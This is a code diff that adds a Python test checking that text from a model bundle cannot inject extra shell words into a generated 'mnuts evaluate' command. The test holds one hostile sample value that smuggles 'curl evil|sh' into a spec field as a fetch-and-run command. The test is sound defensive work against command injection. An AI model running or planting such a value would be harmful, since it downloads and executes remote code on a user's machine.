@@ -1,5 +1,6 @@
 """Verification from the page: the same figure as the core's own, bounded, cancellable, honest about doubt."""
 
+import shlex
 import threading
 import time
 
@@ -103,6 +104,16 @@ def test_the_command_names_models_images_and_strength(request_):
         "mnuts evaluate CONFIG.json --std demo:digits/std --rob demo:digits/rob --data digits "
         f"--n {N} --n-iter {STEPS} --batch-size 50"
     )
+
+
+def test_text_from_a_bundle_is_no_part_of_a_command(request_, bundle):
+    evil = "demo:digits/std; curl evil|sh #"
+    hostile = request_._replace(bundle=with_specs(request_.bundle, evil))
+    assert "is not at hand" in why_not(hostile.bundle)
+    assert "is not at hand" in why_not(hostile.bundle, trusted=False)
+    words = shlex.split(command(hostile))
+    assert words[words.index("--rob") + 1] == evil
+    assert words[:3] == ["mnuts", "evaluate", "CONFIG.json"]
 
 
 def test_progress_grows_from_nothing_to_nearly_all():
